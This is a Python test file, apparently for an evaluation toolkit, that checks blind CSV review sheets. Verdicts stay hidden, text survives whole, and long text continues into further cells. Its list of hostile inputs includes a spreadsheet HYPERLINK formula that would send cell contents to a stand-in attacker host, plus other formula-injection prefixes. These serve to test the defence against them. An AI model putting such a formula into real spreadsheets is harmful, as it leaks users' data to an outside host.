"""The blind sheet: nothing of the verdicts, safe in a spreadsheet, and every text comes back whole."""

import csv
import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from judgekit.errors import InputError
from judgekit.records import (
    ANSWER,
    THE_ANSWER,
    THE_REFERENCE,
    Case,
    Check,
    Claim,
    Context,
    Evidence,
    Label,
    Manifest,
    Result,
    Sample,
    Score,
    Verdict,
)
from judgekit.review import VERDICT_COLUMN, DrawnSheet, KeyLine, draw_sheet, guard, key_path, unguard, write_sheet
from judgekit.review.cells import MOST_UNITS, fit, parts
from judgekit.rundir import write_run
from judgekit.sampling import draw, units_of

LABELS = list(Label)


def a_result(row_id, *, label=Label.SUPPORTED, checks=(("d1", "d2"), ("d1",)), claim="A claim.", **sample):
    texts = {"question": "What?", "answer": "An answer.", "reference": "The gold answer.", **sample}
    contexts = texts.pop("contexts", (Context(id="d1", text="First text."), Context(id="d2", text="Second text.")))
    verdicts = tuple(
        Verdict(
            check=Check(claim_id="c1", sources=sources),
            label=label,
            evidence=(Evidence(context_id="d1", quote="SECRET-QUOTE", verified=False),),
        )
        for sources in checks
    )
    case = Case(
        sample=Sample(id=row_id, contexts=contexts, **texts),
        claims=(Claim(id="c1", side=ANSWER, text=claim, segment_ids=("s1",), start=0, end=8),),
        verdicts=verdicts,
    )
    return Result(case=case, scores=(Score.share("faithfulness", [0.125]),))


@pytest.fixture
def run_of(tmp_path):
    def made(*results, name="run"):
        return write_run(tmp_path / name, results, Manifest(judgekit="0.1.0", logs=(), judge={}, metrics={}))

    return made


def rows_of(path):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def whole(row, name):
    """A text from its cells."""
    cells = [row[name], *(row[f"{name}_{at}"] for at in range(2, 50) if f"{name}_{at}" in row)]
    return "".join(map(unguard, cells))


# --- what the reviewer sees --------------------------------------------------------------------


def test_a_sheet_shows_what_the_judge_saw(run_of, tmp_path):
    contexts = (Context(id="d1", text="First text.", title="Terms"), Context(id="d2", text="Second\ntext."))
    run = run_of(a_result("q1", contexts=contexts, checks=(("d1", "d2"), ("d2",), THE_REFERENCE, THE_ANSWER)))
    path = tmp_path / "sheet.csv"
    assert draw_sheet(run, n=10, seed=7, path=path) == DrawnSheet(units=4, of=4, key=tmp_path / "sheet.key.jsonl")
    rows = rows_of(path)
    assert list(rows[0]) == ["unit_id", "question", "claim", "sources", "answer", VERDICT_COLUMN, "note"]
    assert {row["sources"] for row in rows} == {
        "[d1] Terms\nFirst text.\n\n[d2]\nSecond\ntext.",
        "[d2]\nSecond\ntext.",
        "[the reference]\nThe gold answer.",
        "[the answer]\nAn answer.",
    }
    assert {(row["question"], row["claim"], row["answer"]) for row in rows} == {("What?", "A claim.", "An answer.")}
    assert {(row[VERDICT_COLUMN], row["note"]) for row in rows} == {("", "")}


def test_the_header_names_the_verdicts_a_human_may_give():
    assert VERDICT_COLUMN == "verdict (supported / partially_supported / unsupported / contradicted)"


@pytest.mark.parametrize("label", LABELS)
def test_a_sheet_is_the_same_byte_for_byte_whatever_the_judge_said(run_of, tmp_path, label):
    said, other = tmp_path / "said.csv", tmp_path / "other.csv"
    rows = [f"q{at}" for at in range(8)]
    draw_sheet(run_of(*(a_result(row, label=label) for row in rows), name="a"), n=5, seed=1, path=said)
    draw_sheet(run_of(*(a_result(row, label=Label.SUPPORTED) for row in rows), name="b"), n=5, seed=1, path=other)
    assert said.read_bytes() == other.read_bytes()
    assert "SECRET-QUOTE" not in said.read_text(encoding="utf-8")


def test_rows_stand_in_the_order_of_the_draw_however_they_are_handed_over(run_of, tmp_path):
    run = run_of(*(a_result(f"q{at}") for at in range(10)))
    drawn = draw(units_of(run), 7, seed=3)
    write_sheet(tmp_path / "sheet.csv", run, sorted(drawn), seed=3, of=20)
    assert [row["unit_id"] for row in rows_of(tmp_path / "sheet.csv")] == [unit.unit_id for unit in drawn]


# --- the key -----------------------------------------------------------------------------------


def test_the_key_joins_each_unit_to_its_verdict_and_its_probability(run_of, tmp_path):
    run = run_of(*(a_result(f"q{at}", label=LABELS[at % 5]) for at in range(10)))
    path = tmp_path / "new" / "sheet.csv"
    drawn = draw_sheet(run, n=8, seed=11, path=path)
    assert (drawn.units, drawn.of) == (8, 20)
    key = [KeyLine.model_validate_json(line) for line in drawn.key.read_text(encoding="utf-8").splitlines()]
    assert [line.unit_id for line in key] == [row["unit_id"] for row in rows_of(path)]
    assert {(line.inclusion, line.of, line.seed) for line in key} == {(0.4, 20, 11)}
    for line in key:
        assert line.label == run[line.sample_id].case.label(Check(claim_id=line.claim_id, sources=line.sources))


def test_no_sheet_and_no_key_is_ever_overwritten(run_of, tmp_path):
    run, path = run_of(a_result("q1")), tmp_path / "sheet.csv"
    path.write_text("filled in", encoding="utf-8")
    with pytest.raises(InputError, match="give another name"):
        draw_sheet(run, n=5, seed=1, path=path)
    assert path.read_text(encoding="utf-8") == "filled in"
    path.rename(key_path(path))
    with pytest.raises(InputError, match=re.escape("sheet.key.jsonl")):
        draw_sheet(run, n=5, seed=1, path=path)
    assert not path.exists()


def test_a_run_without_verdicts_gives_no_empty_sheet(run_of, tmp_path):
    with pytest.raises(InputError, match="nothing to review"):
        draw_sheet(run_of(a_result("q1", checks=())), n=5, seed=1, path=tmp_path / "sheet.csv")
    assert not (tmp_path / "sheet.csv").exists()


def test_units_of_another_run_are_refused_before_anything_is_written(run_of, tmp_path):
    elsewhere = draw(units_of([a_result("q2")]), 5, seed=1)
    with pytest.raises(InputError, match="'q2'"):
        write_sheet(tmp_path / "sheet.csv", run_of(a_result("q1")), elsewhere, seed=1, of=2)
    assert list(tmp_path.glob("sheet*")) == []


# --- in a spreadsheet --------------------------------------------------------------------------

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "  +1+2",
    "-5 degrees",
    "@SUM(A1)",
    "\uff1dcmd",
    "\ttab first",
    "\u200b=1",
    "'quoted' at the start",
    'a "quoted" word, a comma;\na line\n\n=and one more',
)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_comes_back_whole_and_no_cell_can_be_a_formula(run_of, tmp_path, text):
    contexts = (Context(id="=d1\r\n+2", text=text),)
    run = run_of(a_result("=q1", checks=(("=d1\r\n+2",),), question=text, answer=text, claim=text, contexts=contexts))
    draw_sheet(run, n=1, seed=1, path=tmp_path / "sheet.csv")
    (row,) = rows_of(tmp_path / "sheet.csv")
    assert {whole(row, name) for name in ("question", "claim", "answer")} == {text}
    assert whole(row, "sources") == f"[=d1 +2]\n{text}"
    assert not any(re.match(r"[\s\u200b]*[=+\-@\uff1d]|[\t\r\n]", cell) for cell in row.values())


def test_a_long_text_goes_on_in_further_cells_and_loses_nothing(run_of, tmp_path):
    long = "".join(f"{at} = {at};\n" for at in range(6_000)) + "=" * 40_000 + "\U0001f600" * 20_000
    contexts = (Context(id="d1", text=long), Context(id="d2", text="Short."))
    run = run_of(a_result("q1", contexts=contexts, checks=(("d1",), ("d2",)), answer="x" * 40_000))
    draw_sheet(run, n=2, seed=1, path=tmp_path / "sheet.csv")
    rows = rows_of(tmp_path / "sheet.csv")
    assert list(rows[0]) == [
        "unit_id",
        "question",
        "claim",
        *("sources", "sources_2", "sources_3", "sources_4", "sources_5"),
        *("answer", "answer_2"),
        VERDICT_COLUMN,
        "note",
    ]
    assert {whole(row, "sources") for row in rows} == {f"[d1]\n{long}", "[d2]\nShort."}
    assert {whole(row, "answer") for row in rows} == {"x" * 40_000}
    assert max(len(cell.encode("utf-16-le")) // 2 for row in rows for cell in row.values()) <= 32_767


def test_the_file_is_what_spreadsheets_expect(run_of, tmp_path):
    draw_sheet(run_of(a_result("q1", answer="Größe\r\nzwei\x00\x1b[31m")), n=1, seed=1, path=tmp_path / "sheet.csv")
    raw = (tmp_path / "sheet.csv").read_bytes()
    assert raw.startswith(b'\xef\xbb\xbf"unit_id","question",')
    assert raw.endswith(b',"",""\r\n')
    assert raw.count(b"\r\n") == 2
    (row,) = rows_of(tmp_path / "sheet.csv")
    assert row["answer"] == "Größe\nzwei\ufffd\ufffd[31m"


@given(st.text())
def test_what_is_guarded_is_no_formula_and_comes_back(text):
    assert unguard(guard(text)) == text
    assert guard(text)[:1] not in set("=+-@\t\r\n")


@given(st.text(st.sampled_from("ab \n=\U0001f600"), max_size=300), st.integers(0, 3))
def test_the_parts_of_a_text_are_the_text_and_each_fits_a_cell(text, times):
    long = text + text * 400 * times
    pieces = parts(long)
    assert "".join(pieces) == long
    assert all(len(piece.encode("utf-16-le")) // 2 <= MOST_UNITS for piece in pieces)


@given(st.text(st.characters()))
def test_what_is_fit_holds_nothing_that_a_cell_cannot(text):
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]", fit(text))
    assert json.loads(json.dumps(fit(text))) == fit(text)
